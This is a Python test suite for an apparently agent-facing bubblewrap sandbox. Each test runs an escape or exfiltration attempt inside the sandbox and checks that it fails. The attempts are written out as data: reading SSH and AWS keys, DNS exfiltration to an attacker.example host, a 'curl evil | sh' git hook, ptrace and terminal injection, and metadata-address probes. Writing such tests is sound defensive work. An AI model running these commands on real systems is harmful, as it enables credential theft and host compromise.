"""Attacks from inside the sandbox, each run for real under bubblewrap, each of which must
fail; and the same kind of command working where the profile grants it.

Every test runs `runestone sandbox run -- bash -c SCRIPT` with the built-in `default`
profile (no network) unless it says otherwise, in a project inside a home that holds
secrets (see conftest.py), and checks both the command's own report and the world outside
afterwards.
"""

from __future__ import annotations

import os
import pty
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sandboxworld import AWS_SECRET, SSH_SECRET


def test_writes_in_the_project_work_and_outside_fail(world):
    result = world.run('echo made > built.txt; echo x > "$1/file" ; echo y >> ~/.bashrc; '
                       'touch /usr/local/evil; echo done'.replace("$1", str(world.outside)))
    assert (world.project / "built.txt").read_text() == "made\n"
    assert (world.outside / "file").read_text() == "outside\n"
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"
    assert not Path("/usr/local/evil").exists()
    assert "Read-only file system" in result.stderr
    assert "<sandbox_violations>" in result.stderr  # explained to the agent


def test_writes_through_symlinks_and_hardlinks_in_the_project_fail(world):
    target = world.outside / "file"
    (world.project / "planted").symlink_to(target)  # placed before, by anyone
    world.run(f'echo a > planted; ln -s "{target}" mine && echo b > mine; '
              f'ln "{target}" hard && echo c > hard; ln ~/.bashrc rc && echo d > rc')
    assert target.read_text() == "outside\n"
    assert (world.home / ".bashrc").read_text() == "# the user's own\n"
    assert not (world.project / "hard").exists() and not (world.project / "rc").exists()


def test_secrets_and_the_runtimes_keys_are_hidden(world):
    keys = sorted(p.name for p in (world.runestone / "keys").iterdir())
    assert keys  # the runtime was initialised: there is something to steal
    result = world.run(
        f'cat ~/.ssh/id_ed25519 ~/.aws/credentials .env; ls -a ~/.ssh "{world.runestone}" '
        f'"{world.runestone}/keys"; cat "{world.runestone}"/keys/*; '
        f'grep -r . "{world.runestone}" | head')
    seen = result.stdout + result.stderr
    assert SSH_SECRET not in seen and AWS_SECRET not in seen and "dotenv-secret" not in seen
    for name in keys:
        assert name not in result.stdout
    key = (world.runestone / "keys" / "runtime.ed25519").read_bytes()
    assert key[:16].hex() not in seen


def test_the_environment_carries_no_secrets(world):
    env = world.env(AWS_SECRET_ACCESS_KEY="env-secret", GITHUB_TOKEN="ghp_envsecret")
    done = subprocess.run([sys.executable, "-m", "runestone", "sandbox", "run", "--", "env"],
                          cwd=world.project, env=env, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    assert "env-secret" not in done.stdout and "ghp_envsecret" not in done.stdout
    assert "RUNESTONE_HOME" not in done.stdout and "PATH=" in done.stdout


def test_proc_shows_only_the_sandbox(world):
    outside = subprocess.Popen(["sleep", "60"])
    try:
        result = world.run(
            f'ls /proc/1/root{world.home}/.ssh; cat /proc/1/root{world.home}/.ssh/id_ed25519; '
            f'cat /proc/{os.getpid()}/environ; '
            'for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null | tr "\\0" " "; echo; done; '
            f'kill -0 {outside.pid} && echo KILLABLE-$((1+1)); kill -9 {outside.pid}')
        assert SSH_SECRET not in result.stdout
        assert "KILLABLE-2" not in result.stdout
        assert "pytest" not in result.stdout and "sleep 60" not in result.stdout
        assert outside.poll() is None  # still alive: the sandbox could not reach it
    finally:
        outside.kill()
        outside.wait()


PTRACE = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
result = libc.ptrace(PTRACE_ATTACH, int(sys.argv[1]), 0, 0)
print("ATTACHED" if result == 0 else f"ptrace failed errno={ctypes.get_errno()}")
"""


def test_ptrace_of_a_process_outside_fails(world):
    outside = subprocess.Popen(["sleep", "60"])
    try:
        result = world.run(f"{sys.executable} -c '{PTRACE}' {outside.pid}")
        assert "ATTACHED" not in result.stdout
        assert "ptrace failed" in result.stdout
    finally:
        outside.kill()
        outside.wait()


TIOCSTI = """
import fcntl, termios, sys
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"x")
    print("INJECTED")
except OSError as exc:
    print("refused", exc.errno)
"""


def test_keystrokes_cannot_be_pushed_into_the_terminal(world):
    """TIOCSTI on the agent's terminal: bubblewrap's --new-session leaves the command
    without a controlling terminal, so the kernel refuses (and newer kernels refuse it
    anyway)."""
    controller, terminal = pty.openpty()
    try:
        result = world.run(f"{sys.executable} -c '{TIOCSTI}'", stdin=terminal)
        assert "INJECTED" not in result.stdout
        assert "refused" in result.stdout
    finally:
        os.close(controller)
        os.close(terminal)


def _listener() -> tuple[socket.socket, int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    return server, server.getsockname()[1]


CONNECT = """
import socket, sys
for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
        print("CONNECTED", target)
    except OSError as exc:
        print("refused", target, exc.errno)
"""


def test_no_local_service_and_no_metadata_address_is_reachable(world):
    """The runtime's daemon port (a listener standing in for it), PostgreSQL's port, and
    the cloud metadata address: no network namespace, no route."""
    server, port = _listener()
    try:
        targets = [f"127.0.0.1:{port}", "127.0.0.1:5432", "169.254.169.254:80", "10.0.0.1:80"]
        result = world.run(f"{sys.executable} -c '{CONNECT}' " + " ".join(targets))
        assert "CONNECTED" not in result.stdout
        assert result.stdout.count("refused") == len(targets)
    finally:
        server.close()


UNIX = """
import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print("CONNECTED", path)
    except OSError as exc:
        print("refused", path, exc.errno)
"""


def test_unix_sockets_of_the_runtime_and_the_machine_are_out_of_reach(world):
    daemon = world.runestone / "state" / "daemon.sock"
    daemon.parent.mkdir(parents=True, exist_ok=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(daemon))
    server.listen(1)
    try:
        targets = [str(daemon), "/var/run/docker.sock", "/run/docker.sock",
                   "/var/run/postgresql/.s.PGSQL.5432", "/run/dbus/system_bus_socket"]
        result = world.run(f"{sys.executable} -c '{UNIX}' " + " ".join(targets))
        assert "CONNECTED" not in result.stdout
    finally:
        server.close()


DNS = """
import socket
for name in ("example.com", "exfil-c2VjcmV0.attacker.example"):
    try:
        print("RESOLVED", socket.getaddrinfo(name, 443))
    except OSError as exc:
        print("no dns", exc)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"c2VjcmV0", ("8.8.8.8", 53))
    print("SENT")
except OSError as exc:
    print("no udp", exc.errno)
"""


def test_dns_exfiltration_fails_without_network(world):
    result = world.run(f"{sys.executable} -c '{DNS}'")
    assert "RESOLVED" not in result.stdout and "SENT" not in result.stdout
    assert result.stdout.count("no dns") == 2


def test_setuid_binaries_grant_nothing(world):
    """`mount` is setuid root here: inside, with no capabilities and no_new_privs, it
    cannot mount; and the process has no capabilities to start with."""
    result = world.run("grep -E '^(CapEff|NoNewPrivs)' /proc/self/status; "
                       "mount -t tmpfs none \"$PWD\" && echo MOUNTED; "
                       "mount -o remount,rw / && echo REMOUNTED")
    assert "MOUNTED" not in result.stdout and "REMOUNTED" not in result.stdout
    assert "CapEff:\t0000000000000000" in result.stdout
    assert "NoNewPrivs:\t1" in result.stdout


def test_git_hooks_and_config_cannot_be_planted(world):
    git = world.project / ".git"
    before = (git / "config").read_text()
    result = world.run("echo 'curl evil | sh' > .git/hooks/pre-commit; "
                       "chmod +x .git/hooks/pre-commit; git config core.fsmonitor 'sh evil'; "
                       "git config core.hooksPath /tmp; mv .git .git-old; "
                       "mkdir -p .git2 && mv .git2 .git; ls .git >/dev/null && echo still")
    assert not (git / "hooks" / "pre-commit").exists()
    assert (git / "config").read_text() == before
    assert not (world.project / ".git-old").exists()
    assert "still" in result.stdout
    assert "Read-only file system" in result.stderr


def test_the_policy_and_the_audit_log_cannot_be_edited(world):
    subprocess.run([sys.executable, "-m", "runestone", "check", "--command", "ls"],
                   env=world.env(), cwd=world.project, capture_output=True, timeout=120)
    policy = world.runestone / "policy.toml"
    audit = world.runestone / "state" / "audit"
    before = policy.read_bytes()
    segments = {p: p.read_bytes() for p in audit.iterdir()}
    assert segments  # the check above was audited: there is a log to tamper with
    world.run(f'echo "[policy]" > "{policy}"; rm -rf "{audit}"; '
              f'echo garbage >> "{audit}"/* ; mkdir -p "{world.runestone}/x"')
    assert policy.read_bytes() == before
    assert {p: p.read_bytes() for p in audit.iterdir()} == segments
    assert not (world.runestone / "x").exists()


def test_nothing_started_in_the_background_outlives_the_command(world):
    marker = world.project / "alive"
    # The command exits at once; its children would write 4 s later if they outlived it
    # (4 s: far more than a loaded machine needs between the spawn and the exit).
    world.run(f'(sleep 4; echo late > "{marker}") & disown; '
              f'nohup sh -c "sleep 4; echo late >> {marker}" >/dev/null 2>&1 & echo started')
    time.sleep(6)
    assert not marker.exists()


class _Echo(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"hello from outside"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


FETCH = """
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        print("GOT", url, urllib.request.urlopen(url, timeout=10).read().decode())
    except Exception as exc:
        print("refused", url, exc)
"""


@pytest.fixture
def web_server():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Echo)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_the_proxy_lets_named_hosts_through_and_refuses_the_rest(world, web_server):
    policy = world.base / "policy.toml"
    policy.write_text('[policy]\ndefault = "ask"\n[sandbox.web]\nextends = "default"\n'
                      f'network = ["127.0.0.1:{web_server}"]\n')
    allowed = f"http://127.0.0.1:{web_server}/x"
    other = f"http://127.0.0.2:{web_server}/x"
    metadata = "http://169.254.169.254/latest/meta-data/"
    result = world.run(f"{sys.executable} -c '{FETCH}' {allowed} {other} {metadata}",
                       profile="web", policy=policy)
    assert f"GOT {allowed} hello from outside" in result.stdout
    assert "GOT " + other not in result.stdout and "GOT " + metadata not in result.stdout
    assert f"deny network-outbound 127.0.0.2:{web_server}" in result.stderr
    assert "deny network-outbound 169.254.169.254:80" in result.stderr
    # Without the profile's grant, the same fetch gets nowhere.
    plain = world.run(f"{sys.executable} -c '{FETCH}' {allowed}")
    assert "GOT" not in plain.stdout


def test_the_sandbox_never_runs_a_command_uncontained(world, tmp_path):
    """No bubblewrap: the command is not run at all, and says why."""
    marker = world.project / "ran"
    env = world.env(RUNESTONE_BWRAP=str(tmp_path / "no-bwrap"))
    done = subprocess.run([sys.executable, "-m", "runestone", "sandbox", "run", "--", "touch",
                           str(marker)], cwd=world.project, env=env, capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 126
    assert "not installed" in done.stderr and "not run" in done.stderr
    assert not marker.exists()


def test_an_interrupted_sandbox_takes_its_command_with_it(world):
    marker = world.project / "survived"
    process = subprocess.Popen(
        [sys.executable, "-m", "runestone", "sandbox", "run", "--", "bash", "-c",
         f'sleep 3; echo yes > "{marker}"'], cwd=world.project, env=world.env(),
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    time.sleep(1.0)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    time.sleep(4)
    assert not marker.exists()


def test_the_hosts_tmp_is_out_of_reach_and_that_is_explained(world, tmp_path):
    """The sandbox's /tmp is its own: a directory of the host's /tmp is missing inside,
    and the agent is told the sandbox did that (the path exists outside)."""
    (tmp_path / "shared").mkdir()
    result = world.run(f'touch "{tmp_path}/shared/x"; cat "{world.home}/.ssh/id_ed25519"; '
                       'cat no-such-file-in-the-project')
    assert not (tmp_path / "shared" / "x").exists()
    refused = result.stderr.split("<sandbox_violations>", 1)[1].split("</sandbox_violations>")[0]
    assert f"{tmp_path}/shared/x" in refused
    assert ".ssh/id_ed25519" in refused
    assert "no-such-file-in-the-project" not in refused  # missing outside too: not the sandbox



def test_runestone_kept_under_tmp_is_shown_read_only(world):
    """A virtual environment made under /tmp (a CI checkout, a quick try): the private /tmp
    would hide Runestone's own interpreter, which the network bridge runs inside, so a
    networked command would fail unexplained. It is shown inside, read-only."""
    venv = Path(tempfile.mkdtemp(prefix="runestone-venv-", dir="/tmp"))
    try:
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
        site = next((venv / "lib").glob("python3*/site-packages"))
        # This interpreter's imports (Runestone and its dependencies), for the new one.
        (site / "runestone-test.pth").write_text(
            "\n".join(p for p in sys.path if p and os.path.isdir(p)) + "\n")
        python = venv / "bin" / "python"
        script = (f'test -x "{python}" && echo SEEN; touch "{venv}/planted" 2>/dev/null '
                  '|| echo READ-ONLY')
        result = subprocess.run(
            [str(python), "-m", "runestone", "sandbox", "run", "--profile", "default",
             "--project", str(world.project), "--", "bash", "-c", script],
            cwd=world.project, env=world.env(), capture_output=True, text=True, timeout=60)
        assert result.stdout.split() == ["SEEN", "READ-ONLY"], result.stderr
        assert not (venv / "planted").exists()
    finally:
        shutil.rmtree(venv, ignore_errors=True)


def test_a_runtime_directly_in_tmp_does_not_bring_the_hosts_tmp_back(monkeypatch):
    """An interpreter whose prefix is /tmp itself must not bind the host's whole /tmp (its
    sockets, other users' files) over the private one; and of a checkout under /tmp, only
    the package is shown, not the checkout around it."""
    import runestone
    from runestone.sandbox.bwrap import runtime_in_private_temp

    checkout = Path(tempfile.mkdtemp(prefix="runestone-checkout-", dir="/tmp"))
    try:
        package = checkout / "src" / "runestone"
        package.mkdir(parents=True)
        monkeypatch.setattr(runestone, "__file__", str(package / "__init__.py"))
        monkeypatch.setattr(sys, "prefix", "/tmp")
        monkeypatch.setattr(sys, "exec_prefix", "/var/tmp")
        monkeypatch.setattr(sys, "base_prefix", "/tmp/")
        monkeypatch.setattr(sys, "executable", "/usr/bin/python3")
        assert runtime_in_private_temp() == [str(package)]
    finally:
        shutil.rmtree(checkout, ignore_errors=True)

CONNECT_THROUGH = """
import os, socket, sys
for target in sys.argv[1:]:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
    status = s.recv(4096).split(b"\\r\\n", 1)[0].decode()
    if " 200 " in status + " ":
        s.sendall(b"ping")
        print("TUNNEL", target, s.recv(100).decode())
    else:
        print("refused", target, status)
"""


def test_tls_tunnels_pass_only_to_named_hosts(world):
    """HTTPS goes through CONNECT: a tunnel to a named host:port carries bytes both ways
    (a plain echo server stands in for the TLS peer); one to any other is refused."""
    server, port = _listener()

    def echo() -> None:
        conn, _ = server.accept()
        with conn:
            conn.sendall(conn.recv(100).upper())

    thread = threading.Thread(target=echo, daemon=True)
    thread.start()
    policy = world.base / "policy.toml"
    policy.write_text('[policy]\ndefault = "ask"\n[sandbox.tls]\nextends = "default"\n'
                      f'network = ["127.0.0.1:{port}"]\n')
    try:
        result = world.run(f"{sys.executable} -c '{CONNECT_THROUGH}' 127.0.0.1:{port} "
                           "169.254.169.254:443 example.org:443", profile="tls", policy=policy)
    finally:
        server.close()
    assert f"TUNNEL 127.0.0.1:{port} PING" in result.stdout
    assert "refused 169.254.169.254:443 HTTP/1.1 403" in result.stdout
    assert "refused example.org:443 HTTP/1.1 403" in result.stdout


def test_what_a_profile_grants_works(world):
    """The same kinds of command the attacks use succeed where a profile grants them: a
    writable directory outside the project, and a secret the profile does not hide."""
    policy = world.base / "policy.toml"
    policy.write_text('[policy]\ndefault = "ask"\n[sandbox.wide]\nextends = "default"\n'
                      f'write = ["{{project}}", "{world.outside}"]\n'
                      'hide = ["{runestone}"]\n')
    result = world.run(f'echo granted > "{world.outside}/file"; cat ~/.aws/credentials',
                       profile="wide", policy=policy)
    assert (world.outside / "file").read_text() == "granted\n"
    assert AWS_SECRET in result.stdout


def test_a_repository_made_inside_is_moved_aside(world):
    """Where the project has no .git yet, the sandbox could make one with a hook for the
    next git command outside; it is moved aside, and the agent is told."""
    import shutil

    shutil.rmtree(world.project / ".git")
    result = world.run("git init -q . && printf '#!/bin/sh\\ntouch owned\\n' > "
                       ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")
    assert not (world.project / ".git").exists()
    moved = [p.name for p in world.project.iterdir() if p.name.startswith(".git.sandboxed-")]
    assert len(moved) == 1
    assert "deny git-init" in result.stderr


KERNEL_SURFACE = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
calls = {"keyctl": (250, 0, -3, 0), "perf_event_open": (298, 0, 0, -1, -1, 0),
         "bpf": (321, 0, 0, 0), "userfaultfd": (323, 0), "mount": (165, 0, 0, 0, 0, 0),
         "x32 getpid": (0x40000000 + 39,)}
for name, args in calls.items():
    result = libc.syscall(*[ctypes.c_long(a) for a in args])
    print(name, "ALLOWED" if result >= 0 else f"refused errno={ctypes.get_errno()}")
CLONE_NEWUSER = 0x10000000
result = libc.unshare(CLONE_NEWUSER)
print("userns ALLOWED" if result == 0 else f"userns refused errno={ctypes.get_errno()}")
"""


def test_kernel_attack_surface_is_filtered(world):
    """The seccomp filter and --disable-userns: the keyring, perf, bpf, userfaultfd, mount,
    the x32 ABI and a user namespace of the command's own are refused (as root outside,
    each of these calls works)."""
    from runestone.sandbox.seccomp import program

    if program() is None:
        pytest.skip("the seccomp filter is written for x86-64 only")
    result = world.run(f"{sys.executable} -c '{KERNEL_SURFACE}'")
    lines = result.stdout.splitlines()
    assert len(lines) == 7, result.stdout + result.stderr
    assert not [line for line in lines if "ALLOWED" in line]
    assert "keyctl refused errno=1" in lines  # EPERM: the filter, not a missing key
